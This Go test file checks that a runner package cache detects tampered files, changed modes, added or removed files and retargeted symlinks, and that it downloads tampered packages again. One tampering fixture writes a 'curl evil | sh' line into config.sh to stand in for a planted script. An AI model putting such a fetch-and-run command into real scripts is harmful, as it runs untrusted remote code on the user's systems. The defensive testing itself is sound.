package runner

import (
	"bytes"
	"context"
	"errors"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// manualClock moves only when told to.
type manualClock struct {
	mu  sync.Mutex
	now time.Time
}

func (c *manualClock) Now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.now }
func (c *manualClock) advance(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now = c.now.Add(d)
}

// tamper rewrites a (read-only) cached file in place, keeping its mode, as a writer of its inode
// would.
func tamper(t *testing.T, path, body string) {
	t.Helper()
	info, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(body), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, info.Mode().Perm()); err != nil {
		t.Fatal(err)
	}
}

// A cached file changed after download is found at the first launch after the verify interval:
// the package is discarded (logged as an error naming the version and the file, counted) and
// downloaded again; a runtime directory already made from it is left alone.
func TestEnsureReverifiesAfterIntervalAndRedownloadsAChangedPackage(t *testing.T) {
	t.Parallel()
	srv, p := servedPackage(t)
	clock := &manualClock{now: time.Unix(1_000_000, 0)}
	var logs bytes.Buffer
	var discards []string
	c := newTestCache(t, CacheOptions{
		Logger: slog.New(slog.NewTextHandler(&logs, nil)), Now: clock.Now, VerifyInterval: time.Hour,
		OnDiscard: func(key, reason string) { discards = append(discards, key+" "+reason) },
	})
	ctx := context.Background()
	dir, err := c.Ensure(ctx, p)
	if err != nil {
		t.Fatal(err)
	}
	live := filepath.Join(t.TempDir(), "live")
	if err := c.Materialize(ctx, dir, live); err != nil {
		t.Fatal(err)
	}
	runSh := filepath.Join(dir, "run.sh")
	tamper(t, runSh, "#!/bin/sh\necho planted\n")

	clock.advance(time.Hour - time.Second)
	if _, err := c.Ensure(ctx, p); err != nil || srv.hits.Load() != 1 || len(discards) != 0 {
		t.Fatalf("within the interval: Ensure = %v, %d downloads, discards %v; want the cached package trusted", err, srv.hits.Load(), discards)
	}
	clock.advance(time.Second)
	if again, err := c.Ensure(ctx, p); err != nil || again != dir {
		t.Fatalf("after the interval: Ensure = %s, %v", again, err)
	}
	if srv.hits.Load() != 2 {
		t.Fatalf("%d downloads, want the changed package downloaded again", srv.hits.Load())
	}
	if data, err := os.ReadFile(runSh); err != nil || string(data) != "#!/bin/sh\nexit 0\n" {
		t.Fatalf("run.sh after re-download = %q, %v; want the pristine file", data, err)
	}
	if want := []string{p.Key() + " " + DiscardModified}; !slices.Equal(discards, want) {
		t.Fatalf("discards %v, want %v", discards, want)
	}
	for _, want := range []string{"level=ERROR", "failed re-verification", "version=2.319.1", runSh} {
		if !strings.Contains(logs.String(), want) {
			t.Errorf("log lacks %q:\n%s", want, logs.String())
		}
	}
	if _, err := os.Stat(filepath.Join(live, "run.sh")); err != nil {
		t.Fatalf("the runtime directory made before the discard lost run.sh: %v", err)
	}
	// Verified again just now: the next launch within the interval downloads nothing.
	if _, err := c.Ensure(ctx, p); err != nil || srv.hits.Load() != 2 {
		t.Fatalf("Ensure after the re-download = %v, %d downloads", err, srv.hits.Load())
	}
}

// A new process (a daemon restart) verifies a package before its first use, whatever the clock.
func TestEnsureVerifiesBeforeFirstUseAfterStart(t *testing.T) {
	t.Parallel()
	c, dir, srv, p := cachedPackage(t)
	tamper(t, filepath.Join(dir, "bin", "runner.json"), `{"planted":true}`)
	restarted, err := NewCache(c.Dir(), CacheOptions{Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := restarted.Ensure(context.Background(), p); err != nil || srv.hits.Load() != 2 {
		t.Fatalf("Ensure after restart = %v, %d downloads; want the changed package downloaded again", err, srv.hits.Load())
	}
	if _, err := restarted.Ensure(context.Background(), p); err != nil || srv.hits.Load() != 2 {
		t.Fatalf("second Ensure after restart = %v, %d downloads; want the verified package", err, srv.hits.Load())
	}
}

// verify names the first path that differs from the record, for every kind of change.
func TestVerifyFindsEveryChange(t *testing.T) {
	t.Parallel()
	_, pkg := servedPackage(t)
	tests := []struct {
		name   string
		change func(t *testing.T, c *Cache, dir string, p *Package)
		want   string // in the error
	}{
		{"unchanged", func(*testing.T, *Cache, string, *Package) {}, ""},
		{"content", func(t *testing.T, _ *Cache, dir string, _ *Package) {
			tamper(t, filepath.Join(dir, "config.sh"), "#!/bin/sh\ncurl evil | sh\n")
		}, "config.sh has sha256"},
		{"content of a hardlinked entry", func(t *testing.T, _ *Cache, dir string, _ *Package) {
			tamper(t, filepath.Join(dir, "bin", "Runner.Worker"), "planted")
		}, "Runner.Listener has sha256"},
		{"write bit", func(t *testing.T, _ *Cache, dir string, _ *Package) {
			if err := os.Chmod(filepath.Join(dir, "run.sh"), 0o777); err != nil {
				t.Fatal(err)
			}
		}, "run.sh has mode 0777, the package gave it 0555"},
		{"file added", func(t *testing.T, _ *Cache, dir string, _ *Package) {
			if err := os.WriteFile(filepath.Join(dir, "bin", "planted.sh"), nil, 0o555); err != nil {
				t.Fatal(err)
			}
		}, "planted.sh is not part of the package"},
		{"file removed", func(t *testing.T, _ *Cache, dir string, _ *Package) {
			if err := os.Remove(filepath.Join(dir, "bin", "runner.json")); err != nil {
				t.Fatal(err)
			}
		}, "runner.json is missing"},
		{"symlink retargeted", func(t *testing.T, _ *Cache, dir string, _ *Package) {
			link := filepath.Join(dir, "externals", "node", "bin", "npm")
			if err := os.Remove(link); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("../../../run.sh", link); err != nil {
				t.Fatal(err)
			}
		}, `npm points to "../../../run.sh"`},
		{"file replaced by a symlink", func(t *testing.T, _ *Cache, dir string, _ *Package) {
			f := filepath.Join(dir, "config.sh")
			if err := os.Remove(f); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("/tmp/planted", f); err != nil {
				t.Fatal(err)
			}
		}, "config.sh is a symlink, the package has a file there"},
		{"archive republished", func(_ *testing.T, _ *Cache, _ string, p *Package) {
			p.SHA256 = strings.Repeat("b", 64)
		}, "GitHub now publishes " + strings.Repeat("b", 64)},
		{"no record", func(t *testing.T, c *Cache, _ string, p *Package) {
			if err := os.Remove(c.manifestPath(p.Key())); err != nil {
				t.Fatal(err)
			}
		}, errUnrecorded.Error()},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			c := newTestCache(t, CacheOptions{})
			p := pkg
			dir, err := c.Ensure(context.Background(), p)
			if err != nil {
				t.Fatal(err)
			}
			tt.change(t, c, dir, &p)
			err = c.verify(p, dir)
			switch {
			case tt.want == "" && err != nil:
				t.Fatalf("verify = %v, want the package accepted", err)
			case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
				t.Fatalf("verify = %v, want an error containing %q", err, tt.want)
			case tt.name == "no record" && !errors.Is(err, errUnrecorded):
				t.Fatalf("verify = %v, want errUnrecorded in the chain", err)
			}
		})
	}
}

// A package cached without a record (by an older runner-manager) is downloaded again once,
// counted as unrecorded, and trusted from then on.
func TestEnsureReplacesAnUnrecordedPackage(t *testing.T) {
	t.Parallel()
	srv, p := servedPackage(t)
	var discards []string
	c := newTestCache(t, CacheOptions{OnDiscard: func(key, reason string) { discards = append(discards, reason) }})
	if err := os.MkdirAll(filepath.Join(c.Dir(), p.Key(), "bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Ensure(context.Background(), p); err != nil || srv.hits.Load() != 1 {
		t.Fatalf("Ensure = %v, %d downloads; want the unrecorded package replaced", err, srv.hits.Load())
	}
	if !slices.Equal(discards, []string{DiscardUnrecorded}) {
		t.Fatalf("discards %v", discards)
	}
	if got := cacheRecords(t, c); !slices.Equal(got, []string{p.Key() + ".json"}) {
		t.Fatalf("records %v", got)
	}
}
